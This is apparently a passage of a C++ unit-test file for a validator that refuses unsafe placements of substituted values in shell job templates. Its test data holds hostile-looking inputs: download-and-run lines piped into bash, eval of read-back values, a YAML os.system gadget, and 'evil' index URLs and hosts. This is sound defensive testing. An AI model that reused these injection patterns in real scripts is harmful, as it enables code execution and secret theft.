                           "srun --gid %X% python3 x.py", "docker exec -u %X% c x", "docker run --user=%X% img x",
                           "podman run -u %X% img x", "apptainer exec --security uid:%X% img x", "ssh -l %X% host true",
                           "docker run --pid=%X% img x", "docker run --cap-add %X% img x", "podman run --network %X% img x"})
    EXPECT_TRUE(refused(task(form), "value-chooses-account")) << form;
  for (const char* form : {"sudo -u trainer python3 -u %X%", "runuser -u trainer -- python3 -u %X%",
                           "su trainer -c 'python3 \"$1\"' sh %X%", "docker run --rm img python3 -u %X%",
                           "docker run --rm -e X=1 img python3 -u %X%", "systemd-run -p MemoryMax=4G python3 %X%",
                           "docker run --network host img python3 t.py --device %X%"})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  EXPECT_TRUE(rules("sudo -u ${CLEARML_TASK.id} id\n").empty());
}

// Eighth and ninth outside reviews: programs that read a value again (a
// declare -a value "(...)", a response file, deepspeed's argument list, a
// remote path), module search paths, launchers' modules, environment
// variables that load code, archives named HOST:FILE.
TEST(ValueSinks, ValuesReadAgainByDeclareResponseFilesAndLaunchers) {
  for (const char* form : {"declare -a A=\"%X%\"", "f() { local -a a=%X%; }", "declare -A C=\"%X%\"",
                           "readonly -a R=\"%X%\"", "V=\"%X%\"\ndeclare -a L=$V", "A=()\ndeclare A=\"%X%\"",
                           "echo \"%X%\" > b.rsp\ngcc @b.rsp", "cat > a.txt <<'EOF'\n%X%\nEOF\npython3 t.py @a.txt",
                           "export NVCC_APPEND_FLAGS=\"%X%\"", "export CUDAHOSTCXX=%X%", "export TRITON_CACHE_DIR=%X%",
                           "export PRTE_MCA_plm_ssh_agent=%X%", "export LMOD_PACKAGE_PATH=%X%"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  for (const char* form : {"torchrun --nproc_per_node=8 -m %X%", "accelerate launch -m %X%", "deepspeed --module %X%"})
    EXPECT_TRUE(refused(task(form), "placeholder-command")) << form;
  // Read as data: declare without -a, arrays of literal words, a response file the template wrote itself.
  EXPECT_TRUE(rules(task("declare N=\"%X%\"\nlocal -a L=(\"$N\")")).empty());
  EXPECT_TRUE(rules(task("echo -O2 > b.rsp\ngcc @b.rsp \"%X%.c\"")).empty());
  EXPECT_TRUE(placement(task("deepspeed train.py --run_name=%X%")).context.resplit);
  EXPECT_TRUE(placement(task("N=%X%\ndeepspeed train.py --run_name \"$N\"")).context.resplit);
  // accelerate with DeepSpeed hands a multi-node launch to deepspeed's runner (pdsh).
  EXPECT_TRUE(placement(task("accelerate launch --use_deepspeed --deepspeed_multinode_launcher pdsh t.py --run_name \"%X%\""))
                  .context.resplit);
  EXPECT_FALSE(placement(task("accelerate launch --num_processes 2 t.py --run_name \"%X%\"")).context.resplit);
  EXPECT_TRUE(placement(task("scp \"host:/data/%X%\" .")).context.resplit);
  EXPECT_FALSE(placement(task("torchrun train.py --run_name=%X%")).context.resplit);
  EXPECT_EQ(placement(task("module use %X%")).roles, sg::render::ElementRoles(sg::render::ElementRole::CodePath));
  EXPECT_EQ(placement(task("tar -xzf %X% -C /tmp")).roles, sg::render::ElementRoles(sg::render::ElementRole::LocalName));
  const auto created = placement(task("tar czf %X%.tgz out")).roles;  // the archive tar writes
  EXPECT_TRUE(created.has(sg::render::ElementRole::LocalName) && created.has(sg::render::ElementRole::Path));
  EXPECT_EQ(placement(task("tar --file=%X% -x")).roles, sg::render::ElementRoles(sg::render::ElementRole::LocalName));
  EXPECT_EQ(placement(task("tar --force-local -xf %X%")).roles, sg::render::ElementRoles());  // a file read, not HOST:FILE
  // After a '/' of the template's no ':' makes a host (fr 82).
  EXPECT_EQ(placement(task("tar -xzf \"data/%X%\" -C data")).roles, sg::render::ElementRoles());
  EXPECT_EQ(placement(task("tar -xzf \"$TMPDIR/%X%\" -C data")).roles, sg::render::ElementRoles());  // (fr 85)
  // An archive named by --file=A, -cfA or cf A holds what tar -c carries,
  // and the tree tar -x writes from it, however the archive and the
  // directory are written, holds that (attack 200).
  for (const char* create : {"tar --create --file=stage.tar -C \"$SRC\" .", "tar -c --file=stage.tar -C \"$SRC\" .",
                             "tar -cfstage.tar -C \"$SRC\" .", "tar cf stage.tar -C \"$SRC\" .",
                             "tar -c -C \"$SRC\" -zf stage.tar .", "srun tar --create --file stage.tar --directory=\"$SRC\" ."})
    for (const char* extract : {"tar -xf stage.tar -C w", "tar --extract --file=stage.tar --directory=w", "tar -xfstage.tar -Cw",
                                "tar xvf stage.tar -C w", "tar --get --file stage.tar --directory w", "tar -C w -xzf ./stage.tar"})
      EXPECT_TRUE(refused(task(std::string("SRC=\"%X%\"\n") + create + "\n" + extract + "\npython3 w/prepare.py"),
                          "value-parsed-as-code"))
          << create << "; " << extract;
  // Only what an exact cut made fills a role where the variable never
  // holds the value as it is (attacks 196, 197, 202 false refusals): the
  // cut value is checked, the URL itself is not a tar archive's name.
  for (const char* form : {"URL=\"%X%\"\ncurl -fLO \"$URL\"\nARCHIVE=\"${URL##*/}\"\ntar -xzf \"$ARCHIVE\"",
                           "URL=\"%X%\"\ncurl -fLO \"$URL\"\nNAME=$(basename \"$URL\")\ntar -xzf \"$NAME\"",
                           "URL=\"%X%\"\nA=\"${URL##*/}\"\nB=\"$A\"\ntar -xzf \"$B\"", "URL=\"%X%\"\ntar -xzf \"${URL##*/}\""}) {
    const auto p = placement(task(form));
    EXPECT_FALSE(refuses(p, "https://example.org/data/set.tgz")) << form;
    EXPECT_TRUE(refuses(p, "https://example.org/evil:set.tgz")) << form;  // (the cut keeps "evil:set.tgz": HOST:FILE)
    EXPECT_TRUE(refuses(p, "host:set.tgz")) << form;
  }
  // shopt -s nocasematch: ${V//X/:} replaces 'x' too, which the ways do not list.
  {
    const auto p = placement(task("shopt -s nocasematch\nV=\"%X%\"\nA=\"${V//X/:}\"\ntar -xzf \"$A\""));
    EXPECT_TRUE(refuses(p, "evilxhost"));
    EXPECT_FALSE(refuses(placement(task("V=\"%X%\"\nA=\"${V//X/:}\"\ntar -xzf \"$A\"")), "evilxhost"));
  }
  // Where the variable may hold the value as it is too, the value is checked as it is.
  for (const char* form : {"A=\"%X%\"\nif [[ -n $CUT ]]; then A=\"${A##*/}\"; fi\ntar -xzf \"$A\"",
                           "URL=\"%X%\"\nA=\"${URL##*/}\"\nA+=\"$URL\"\ntar -xzf \"$A\"",
                           "URL=\"%X%\"\nA=\"${URL##*/}\"\nread -r A <<< \"$URL\"\ntar -xzf \"$A\"",
                           "URL=\"%X%\"\nA=\"${URL##*/}\"\nB=\"${A:-$URL}\"\ntar -xzf \"$B\"",
                           "URL=\"%X%\"\nA=\"${URL##*/}\"\n: \"${A:=$URL}\"\ntar -xzf \"$A\"",
                           "URL=\"%X%\"\nA=\"$(basename \"$URL\"; echo \"$URL\")\"\ntar -xzf \"$A\""})
    EXPECT_TRUE(refuses(placement(task(form)), "https://example.org/data/set.tgz")) << form;
  // pax -r extracts into the working directory, pax -rw copies trees.
  for (const char* extract : {"pax -r -f stage.tar", "pax -rf stage.tar", "cd w && pax -r < ../stage.tar"})
    EXPECT_TRUE(refused(task(std::string("SRC=\"%X%\"\ntar -cf stage.tar -C \"$SRC\" .\n") + extract + "\npython3 w/prepare.py"),
                        "value-parsed-as-code"))
        << extract;
  EXPECT_TRUE(refused(task("SRC=\"%X%\"\npax -rw -s ',^,,' \"$SRC\" w\npython3 w/prepare.py"), "value-parsed-as-code"));
  // (A tree extracted from an archive the template packed of its own files holds no value.)
  EXPECT_EQ(rules(task("tar -cfstage.tar -C /shared/code .\ntar --extract --file=stage.tar --directory=w\nexport RUN=%X%\n"
                       "python3 w/prepare.py")),
            std::vector<std::string>{});
  EXPECT_TRUE(placement(task("tar -xzf \"$TMPDIR%X%\" -C data")).roles.has(sg::render::ElementRole::LocalName));
  EXPECT_TRUE(placement(task("tar -xzf \"run-%X%\" -C data")).roles.has(sg::render::ElementRole::LocalName));
  EXPECT_TRUE(placement(task("tar -xzf\"run-%X%\" -C data")).roles.has(sg::render::ElementRole::LocalName));
  EXPECT_TRUE(placement(task("tar xzCf data \"run-%X%\"")).roles.has(sg::render::ElementRole::LocalName));
  EXPECT_TRUE(placement(task("tar -xf data.tar -C %X%")).roles.has(sg::render::ElementRole::Path));
  EXPECT_EQ(placement("#SBATCH --mail-user=${CLEARML_TASK.name}\n").roles, sg::render::ElementRoles(sg::render::ElementRole::MailUser));
  // The working directory a value chooses is where relative code resolves.
  EXPECT_EQ(placement(task("srun --chdir=%X% true")).roles, sg::render::ElementRoles(sg::render::ElementRole::CodePath));
  sg::render::ElementRoles entered(sg::render::ElementRole::CodePath);
  entered.add(sg::render::ElementRole::EnteredDirectory);
  entered.add(sg::render::ElementRole::EnteredPath);
  for (const char* form : {"cd \"%X%\"", "D=\"%X%\"\ncd \"$D\"", "pushd %X%"}) EXPECT_EQ(placement(task(form)).roles, entered) << form;
  EXPECT_EQ(placement("#SBATCH --chdir=${CLEARML_TASK.name}\n").roles, sg::render::ElementRoles(sg::render::ElementRole::CodePath));
  EXPECT_EQ(placement(task("cd /scratch && echo \"%X%\"")).roles, sg::render::ElementRoles());
  // A file the template writes or copies, named by a value directly or through a variable.
  for (const char* form : {"echo x > \"%X%\"", "O=\"%X%\"\necho x > \"$O\"", "R=%X%\necho x >> \"$R/f.log\"",
                           "cp a.txt \"%X%\"", "echo x | tee -a \"%X%\"", "dd if=a of=%X%", "mkdir -p \"%X%\"",
                           "tar -xf a.tar -C \"%X%\"", "touch %X%", "ln -sfn a %X%"}) {
    auto written = sg::render::ElementRoles(sg::render::ElementRole::Path);
    written.add(sg::render::ElementRole::CreatedName);
    EXPECT_EQ(placement(task(form)).roles, written) << form;
  }
  EXPECT_EQ(placement(task("curl -F \"text=%X%\" https://hooks.example.com")).roles, sg::render::ElementRoles(sg::render::ElementRole::FormField));
  EXPECT_EQ(placement(task("curl --form=msg=%X% https://hooks.example.com")).roles, sg::render::ElementRoles(sg::render::ElementRole::FormField));
  EXPECT_TRUE(placement(task("ls ~%X%/y.log")).context.after_tilde);
  EXPECT_FALSE(placement(task("ls \"~%X%\"")).context.after_tilde);
  for (const char* form : {"export NETRC=%X%", "export AWS_SHARED_CREDENTIALS_FILE=%X%", "export VIRTUAL_ENV=%X%"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // A server the job's credentials go to is no code, but chosen by a task
  // it would receive them: its own rule says so (fr hunt 75).
  EXPECT_TRUE(refused(task("export PIP_INDEX_URL=%X%"), "value-parsed-as-code"));  // (what pip installs runs)
  for (const char* form : {"export WANDB_BASE_URL=%X%", "export MLFLOW_TRACKING_URI=\"%X%\"", "HF_ENDPOINT=%X% python3 t.py",
                           "U=\"%X%\"\nexport CLEARML_API_HOST=\"$U\""}) {
    EXPECT_TRUE(refused(task(form), "value-chooses-server")) << form;
    EXPECT_FALSE(refused(task(form), "value-parsed-as-code")) << form;
  }
  EXPECT_TRUE(rules(task("export WANDB_NAME=\"%X%\"\nexport WANDB_PROJECT=\"%X%\"")).empty());
  // A download a value names, run (curl -sSLo, wget -qO); a value read back through exec {fd}<<<.
  for (const char* form : {"curl -sSLo run.sh \"%X%\"\nbash run.sh", "wget -qO run.sh \"%X%\"\nbash run.sh",
                           "X1=\"%X%\"\nexec {fd}<<<\"$X1\"\nread -r L <&$fd\neval \"$L\""})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  EXPECT_TRUE(placement(task("echo $DATA%X%")).context.after_name);
  EXPECT_FALSE(placement(task("echo ${DATA}%X% \\$D%X%")).context.after_name);
}

TEST(ValueSinks, AValueMeetsTheRuleOfEveryPartItFills) {
  namespace R = sg::render;
  // perl's <> opens its operands with two-argument open, in a script as with -n.
  for (const char* form : {"perl cat.pl %X%", "perl -w cat.pl \"%X%\"", "perl -e 'print while <>' %X%",
                           "F=\"%X%\"\nperl cat.pl \"$F\""})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::PerlOperand)) << form;
  EXPECT_TRUE(refused(task("perl -I %X% x.pl"), "placeholder-command"));  // (the modules' directory: code)
  EXPECT_NE(R::check_element(R::ElementRole::PerlOperand, "touch x|"), nullptr);
  EXPECT_NE(R::check_element(R::ElementRole::PerlOperand, "  <x"), nullptr);
  EXPECT_NE(R::check_element(R::ElementRole::PerlOperand, "+>x"), nullptr);
  EXPECT_EQ(R::check_element(R::ElementRole::PerlOperand, "data/train 1.txt"), nullptr);
  // Roles reach a value through a variable, and a value filling two parts meets both rules.
  EXPECT_TRUE(placement(task("M=\"%X%\"\ncurl -F \"text=$M\" https://hooks.example.com")).roles.has(R::ElementRole::FormField));
  EXPECT_TRUE(placement(task("A=\"%X%\"\ntar -xf \"$A\"")).roles.has(R::ElementRole::LocalName));
  const auto both = placement(task("F=\"%X%\"\ntar -xf \"$F\"\ncurl -F \"file=$F\" https://hooks.example.com")).roles;
  EXPECT_TRUE(both.has(R::ElementRole::LocalName) && both.has(R::ElementRole::FormField));
  EXPECT_NE(both.check("host:x.tar"), nullptr);
  EXPECT_NE(both.check("@x.tar"), nullptr);
  EXPECT_EQ(both.check("x.tar"), nullptr);
}

TEST(ValueSinks, FilesCopiedInPlaceCarryWhatTheOriginalHeld) {
  // gzip F writes F.gz, gunzip F.gz writes F, base64 F > F.b64: reading the copy as code runs the value.
  for (const char* form : {"cat > c.txt <<EOF\n%X%\nEOF\ngzip -k c.txt\nzcat c.txt.gz | bash",
                           "echo \"%X%\" > c.txt\nbase64 c.txt > c.txt.b64\nbase64 -d c.txt.b64 | sh",
                           "echo \"%X%\" > run.sh.gz\ngunzip run.sh.gz\nbash run.sh"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(rules(task("echo \"%X%\" > notes.txt\nzcat model.txt.gz | bash")).empty());
}

TEST(ValueSinks, EveryOptionThatChoosesTheWorkingDirectoryNamesCode) {
  namespace R = sg::render;
  for (const char* form : {"env -C \"%X%\" python3 train.py", "env --chdir=%X% python3 train.py",
                           "unshare --wd=\"%X%\" python3 train.py", "mpirun -np 2 --wdir \"%X%\" python3 train.py",
                           "mpiexec -wdir %X% python3 t.py", "srun --container-workdir=%X% python3 t.py",
                           "srun apptainer exec --pwd \"%X%\" img.sif python3 train.py", "docker run -w %X% img true",
                           "cmake -S \"%X%\" -B build", "cmake %X%", "git -C \"%X%\" status",
                           "C=\"%X%\"\ngit -C \"$C\" status", "sudo -D %X% true"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::CodePath)) << form;
  EXPECT_TRUE(placement("#SBATCH --container-workdir=${CLEARML_TASK.name}\n").roles.has(R::ElementRole::CodePath));
  // srun's and sbatch's short options mean nothing to other programs (train.py -D is its own;
  // its argument is checked only as a KEY=VALUE override Hydra would read).
  EXPECT_EQ(placement(task("python3 train.py -D %X%")).roles, R::ElementRoles(R::ElementRole::ScriptArgument));
  EXPECT_TRUE(placement(task("srun -D %X% true")).roles.has(R::ElementRole::CodePath));
}

TEST(ValueSinks, FilesAProgramDeletesOrChangesAreFilesTheJobWrites) {
  namespace R = sg::render;
  for (const char* form : {"rm -rf \"scratch/%X%\"", "find \"%X%\" -type f -delete", "O=%X%\nchmod -R g+rwX \"$O\"",
                           "sed -i 's/a/b/' \"%X%\"", "sed -e s/a/b/ -i %X%", "gzip -f \"%X%\"", "rm -f -- \"%X%\"",
                           "git clone https://example.com/r.git \"%X%\"", "wget -P \"%X%\" https://example.com/f",
                           "python3 -m venv \"%X%\"", "chmod 755 %X%",
                           "echo \"%X%\" > keep.lst\ntar czf r.tgz -T keep.lst",
                           "echo \"%X%\" > keep.lst\nrsync -a --files-from=keep.lst . dst/"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::Path)) << form;
  // Reading is not changing: the script of sed -i, a search without -delete, chmod's mode.
  for (const char* form : {"sed 's/a/b/' \"%X%\"", "find \"%X%\" -name '*.pt'"})
    EXPECT_FALSE(placement(task(form)).roles.has(R::ElementRole::Path)) << form;
}

TEST(ValueSinks, AForListSplitsWhatAFileHolds) {
  for (const char* form : {"printf '%s\\n' \"%X%\" > tags.txt\nfor t in $(cat tags.txt); do srun python3 t.py \"$t\"; done",
                           "echo \"%X%\" > t.txt\nfor t in $(<t.txt); do echo \"$t\"; done"})
    EXPECT_TRUE(placement(task(form)).context.split_later) << form;
  EXPECT_FALSE(placement(task("echo \"%X%\" > t.txt\nfor t in \"$(cat t.txt)\"; do echo \"$t\"; done")).context.split_later);
  EXPECT_NE(sg::render::check_element(sg::render::ElementRole::JobName, ".."), nullptr);
  EXPECT_NE(sg::render::check_element(sg::render::ElementRole::JobName, ".bashrc"), nullptr);  // %x in --output
  EXPECT_EQ(sg::render::check_element(sg::render::ElementRole::JobName, "x..y"), nullptr);
  for (const char* form : {"export TCL_LIBRARY=%X%", "export MODULERCFILE=%X%", "export KRB5_CONFIG=%X%",
                           "export SCREENRC=%X%", "export PSQLRC=%X%"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(rules(task("export MODEL_NAME=\"%X%\"\nexport DATA_SRC=\"%X%\"")).empty());
  for (const char* form : {"export MAMBA_ROOT_PREFIX=%X%", "export ROCM_PATH=%X%", "export R_HOME=%X%",
                           "export DEEPSPEED_CONFIG=%X%"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
}

TEST(ValueSinks, ValuesInDataFilesStayOneScalar) {
  namespace R = sg::render;
  for (const char* form : {"cat > run.json <<EOF\n{\"model\": %X%}\nEOF", "cat > c.yaml <<'EOF'\nmodel: run-%X%\nEOF",
                           "M=\"%X%\"\necho \"model = $M\" > train.toml",
                           "CFG=\"$PWD/run.yaml\"\necho \"model: %X%\" > \"$CFG\""})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::DataField)) << form;
  for (const char* form : {"echo \"$h slots=%X%\" >> hostfile", "echo \"%X%\" > requirements.txt"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::DataWord)) << form;
  EXPECT_EQ(placement(task("echo \"%X%\" > notes.txt")).roles, R::ElementRoles());
  for (const char* v : {"resnet50\", \"x\": true", "{a: 1}", "!!python/object/apply:os.system", "&a", "a: b", "a #b",
                        "- x", "x,y", "[1]", "a\xe2\x80\xa8" "b", " a"})
    EXPECT_NE(R::check_element(R::ElementRole::DataField, v), nullptr) << v;
  for (const char* v : {"resnet 50", "/datasets/imagenet", "-0.001", "1e-3", "user@host", "a=b", "naïve"})
    EXPECT_EQ(R::check_element(R::ElementRole::DataField, v), nullptr) << v;
  EXPECT_NE(R::check_element(R::ElementRole::DataWord, "4 max_slots=64"), nullptr);
  EXPECT_NE(R::check_element(R::ElementRole::DataWord, "--index-url=https://evil"), nullptr);
  EXPECT_EQ(R::check_element(R::ElementRole::DataWord, "torch==2.3.1"), nullptr);
}

TEST(ValueSinks, EchoReadsOnlyItsOwnLettersAsOptionsAndReplacementsReadAmpersands) {
  EXPECT_TRUE(placement(task("echo \"%X%\"")).context.echo_operand);
  EXPECT_FALSE(placement(task("/bin/echo \"%X%\"")).context.echo_operand);
  EXPECT_FALSE(placement(task("echo() { printf '%s' \"$@\"; }\necho \"%X%\"")).context.echo_operand);
  const auto r = placement(task("E=%X%\nL=\"${P/@E@/$E}\"")).roles;
  EXPECT_TRUE(r.has(sg::render::ElementRole::PatsubReplacement));
  EXPECT_FALSE(placement(task("E=%X%\nL=\"${P/@E@/\"$E\"}\"")).roles.has(sg::render::ElementRole::PatsubReplacement));
  EXPECT_NE(r.check("R&D"), nullptr);
  EXPECT_EQ(r.check("R and D"), nullptr);
}

TEST(ValueSinks, ProgramsThatRunTheirInputOrTheEnvironmentAndScriptsTheyAreNamed) {
  namespace R = sg::render;
  // GNU sed's e command and s///e flag run the text they read.
  for (const char* form : {"echo \"%X%\" > r.txt\nsed 's/^/echo /e' r.txt", "echo \"%X%\" | sed 's/^/echo /e'",
                           "echo \"%X%\" > r.txt\nsed -n '1e' r.txt"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(rules(task("echo \"%X%\" > r.txt\nsed -e 's/^x//' -e '/^#/d' r.txt")).empty());
  // Code of another language that reads the environment and runs commands.
  for (const char* form : {"N=\"%X%\" awk 'BEGIN{system(\"echo \" ENVIRON[\"N\"])}'",
                           "export N=\"%X%\"\npython3 -c 'import os; os.system(\"echo \" + os.environ[\"N\"])'",
                           "export N=\"%X%\"\npython3 <<'EOF'\nimport os, subprocess\nsubprocess.run('echo ' + os.environ['N'], shell=True)\nEOF",
                           "export N=\"%X%\"\ncat > mk.awk <<'A'\nBEGIN { system(\"echo \" ENVIRON[\"N\"]) }\nA\nawk -f mk.awk",
                           "export N=\"%X%\"\ncat > step.sh <<'S'\npython3 -c \"print('$N')\"\nS\nbash step.sh",
                           "export N=\"%X%\"\ncat > step <<'S'\npython3 -c \"print('$N')\"\nS\nbash step"})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  EXPECT_TRUE(rules(task("export N=\"%X%\"\npython3 -c 'import os; print(os.environ[\"N\"])'")).empty());
  EXPECT_TRUE(rules(task("export N=\"%X%\"\ncat > step <<'S'\necho \"$N\"\nS\nbash step")).empty());
  // Files of code by name, wherever they lie.
  for (const char* form : {"echo 'x := %X%' > Makefile.local", "echo \"%X%\" > rules.make", "echo \"%X%\" > params.inc",
                           "echo \"%X%\" > build.ninja", "echo \"%X%\" > record.sql", "echo \"%X%\" > modulefiles/run/1.0"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // Modules and tools that run the script they are given.
  for (const char* form : {"python3 -m cProfile -o prof.out %X%", "python3 -m pdb %X%", "python3 -m torch.distributed.run --nproc_per_node 8 %X%",
                           "coverage run %X%", "streamlit run %X%", "papermill %X% out.ipynb", "pytest -q %X%",
                           "pip install -e %X%", "pip install -r %X%", "uvicorn --app-dir %X% app:app", "uv venv --python %X%"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::CodePath)) << form;
  EXPECT_FALSE(placement(task("python3 -m torch.distributed.run --nproc_per_node 8 train.py --lr %X%")).roles.has(R::ElementRole::CodePath));
}

TEST(ValueSinks, MoreFilesWrittenAndFilesOnlyRead) {
  namespace R = sg::render;
  for (const char* form : {"split -l 5 data.txt %X%", "git init %X%", "curl -T %X% https://example.com/up",
                           "curl -c %X% https://example.com", "wget -o %X% https://example.com/f", "pip install --target %X% x",
                           "huggingface-cli download m --local-dir %X%", "nvidia-smi -f %X%", "enroot import -o %X% docker://x",
                           "aws s3 cp s3://b/k %X%", "cp a.txt %X%", "mv %X% b.txt"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::Path)) << form;
  EXPECT_FALSE(placement(task("cp %X% .")).roles.has(R::ElementRole::Path));  // a copy's source is only read
  EXPECT_TRUE(placement(task("echo \"machine %X% login u\" > .netrc")).roles.has(R::ElementRole::DataWord));
  EXPECT_TRUE(placement(task("U=\"%X%\" python3 -c 'import os; open(\"meta.json\", \"w\").write(os.environ[\"U\"])'"))
                  .roles.has(R::ElementRole::DataField));
  EXPECT_TRUE(rules(task("jq -n --arg note \"%X%\" '{note: $note}' > meta.json")).empty());
  EXPECT_FALSE(placement(task("jq -n --arg note \"%X%\" '{note: $note}' > meta.json")).roles.has(R::ElementRole::DataField));
  // (fr37) -cn is -c -n; what tee or cat copy from it is JSON too. With -r
  // or -j jq writes a string raw: the file's rules hold.
  for (const char* form : {"jq -cn --arg n \"%X%\" '{n: $n}' >> runs.jsonl", "jq -n --arg n \"%X%\" '{n: $n}' | tee m.json",
                           "jq -nc --arg n \"%X%\" '{n: $n}' | cat > m.json"})
    EXPECT_FALSE(placement(task(form)).roles.has(R::ElementRole::DataField)) << form;

  for (const char* form : {"jq -rn --arg n \"%X%\" '\"name: \" + $n' > cfg.yaml",
                           "jq -n -r --arg n \"%X%\" '\"name: \" + $n' > cfg.yaml",
                           "jq -n --raw-output --arg n \"%X%\" '\"name: \" + $n' > cfg.yaml",
                           "jq -nj --arg n \"%X%\" '\"name: \" + $n' > cfg.yaml",
                           "{ jq -n --arg n \"%X%\" '{n: $n}'; echo \"x: %X%\"; } | tee cfg.yaml",
                           "echo \"n: %X%\" | tee cfg.yaml", "jq -n --arg n \"%X%\" '{n: $n}' | cat extra.yaml - > cfg.yaml",
                           // (round 112) --argjson parses the value as JSON: its structure is the value's
                           "jq -n --argjson lr \"%X%\" '{lr: $lr}' > conf/config.json"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::DataField)) << form;
  EXPECT_EQ(R::check_element(R::ElementRole::DataField, "https://x.org/a?b=1#top"), nullptr);
  // (An '&' would end a command a tool pastes the file's text into: refused, URL or not.)
  EXPECT_NE(R::check_element(R::ElementRole::DataField, "https://x.org/a?b=1&PATH=/tmp/x"), nullptr);
  EXPECT_NE(R::check_element(R::ElementRole::DataField, "#top"), nullptr);
  EXPECT_NE(R::check_element(R::ElementRole::DataField, "it's"), nullptr);  // ends a single-quoted YAML or TOML string
}

TEST(ValueSinks, SecretsAreKnownByTheWordsOfTheirNames) {
  for (const char* key : {"GITHUB_PAT", "SLACK_WEBHOOK_URL", "HF_HUB_TOK", "REDIS_PW", "DB_CREDS", "JWT", "S3_SK",
                          "SSH_ID_RSA", "secret_key", "hfToken", "key", "api_key"})
    EXPECT_TRUE(sg::render::names_a_secret(key)) << key;
  for (const char* key : {"PATH", "path", "default_output_uri", "extra_index_url", "partition", "monkey", "skip"})
    EXPECT_FALSE(sg::render::names_a_secret(key)) << key;
  EXPECT_TRUE(refused("export P=\"${CLEARML_CONFIG.environment.GITHUB_PAT}\"\n", "secret-value"));
}

TEST(ValueSinks, DescriptorsSubscriptsAndMoreFilesOfTheThirteenthReview) {
  namespace R = sg::render;
  // Writes through descriptors and output substitutions reach the file they name.
  for (const char* form : {"exec {fd}> job.sh\necho \"%X%\" >&$fd\nbash job.sh", "exec 3<> job.sh\necho \"%X%\" >&3\nbash job.sh",
                           "exec 3> job.sh\nexec 4>&3\necho \"%X%\" >&4\nbash job.sh", "exec 3> job.sh\necho \"%X%\" > /dev/fd/3\nbash job.sh",
                           "exec > job.sh\necho \"%X%\"\nexec >&2\nbash job.sh", "echo \"%X%\" > >(srun bash)",
                           "exec 3<<<\"%X%\"\nsource /dev/fd/3", "bash /dev/fd/3 3<<<\"echo %X%\"",
                           "coproc W { cat > job.sh; }\necho \"%X%\" >&\"${W[1]}\"\nbash job.sh",
                           "gen() { echo \"%X%\"; }\ngen > >(tee job.sh)\nbash job.sh"})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  // A declaration's name part, subscript included, is read again.
  for (const char* form : {"declare -A D\nS=%X%\ndeclare \"D[$S]=/data/$S\"", "declare -A s\nm() { local \"s[$1]=1\"; }\nm \"%X%\""})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  for (const char* form : {"srun --bcast=/local/bin/%X% ./trainer", "srun --container-save=/scratch/%X%.sqsh true",
                           "git archive -o %X% HEAD", "git bundle create %X% --all", "openssl req -x509 -keyout %X% -out c.pem",
                           "script -q -c true %X%"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::Path)) << form;
  EXPECT_TRUE(placement("#SBATCH --container-save=/scratch/${CLEARML_TASK.name}.sqsh\n").roles.has(R::ElementRole::Path));
  EXPECT_TRUE(placement("#SBATCH --export-file=${CLEARML_TASK.name}\n").roles.has(R::ElementRole::Path));
}

TEST(ValueSinks, DataFilesKnownByShapeAndMoreOfTheThirteenthReview) {
  namespace R = sg::render;
  for (const char* form : {"echo \"sdk.development.default_output_uri: \\\"%X%\\\"\" >> clearml.conf",
                           "echo \"{\\\"name\\\": \\\"%X%\\\"}\" | jq . > meta.json", "echo \"{\\\"event\\\": \\\"%X%\\\"}\" >> events.log",
                           "curl -d \"{\\\"text\\\": \\\"%X%\\\"}\" https://hooks.example.com", "echo \"a: %X%\" > RUN.YAML.tmp",
                           "exec 3> meta.json\necho \"{\\\"n\\\": \\\"%X%\\\"}\" >&3"}) {
    // (Inside a JSON string written on the command line: a string's rule.)
    const auto roles = placement(task(form)).roles;
    EXPECT_TRUE(roles.has(R::ElementRole::DataField) || roles.has(R::ElementRole::DataQuotedText) ||
                roles.has(R::ElementRole::DataProseText))
        << form;
    EXPECT_NE(roles.check("a\", \"k\": \"v"), nullptr) << form;
  }
  for (const char* form : {"export OPAL_PREFIX=%X%", "export CLEARML_AGENT_SKIP_PIP_VENV_INSTALL=%X%", "export MPIEXEC_RSH=%X%"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
}

TEST(ValueSinks, APartOfAValueMeetsTheRulesOfWhereItStands) {
  namespace R = sg::render;
  // Cut, then stored or used: any part of the value may come first.
  for (const char* form : {"V=\"%X%\"\nbash \"${V#*[:]}\"", "V=\"%X%\"\nS=${V#*.[:]}\nbash \"$S\"",
                           "read -r N S <<< \"%X%\"\nbash \"$S\"", "V=\"%X%\"\n[[ $V =~ ^(.*):(.*)$ ]]\ncd \"${BASH_REMATCH[2]}\"",
                           "S=$(cut -d, -f2 <<< \"%X%\")\nbash \"$S\"", "V=\"%X%\"\nA=${V#x}\nB=${A#y}\nbash \"$B\""}) {
    const auto pl = placement(task(form));
    EXPECT_TRUE(pl.roles.cut().anywhere) << form;
    EXPECT_NE(pl.roles.check("train:/tmp/evil.sh"), nullptr) << form;
  }
  EXPECT_TRUE(placement(task("bash \"%X%\"")).roles.cut().empty());
  // fr40/03: the start through a literal match of punctuation cut off
  // (${V##*/}, ${V#*:}): what is left is made and checked exactly.
  for (const char* form : {"V=\"%X%\"\nbash \"${V#*:}\"", "V=\"%X%\"\nS=${V#*:}\nbash \"$S\""}) {
    const auto pl = placement(task(form));
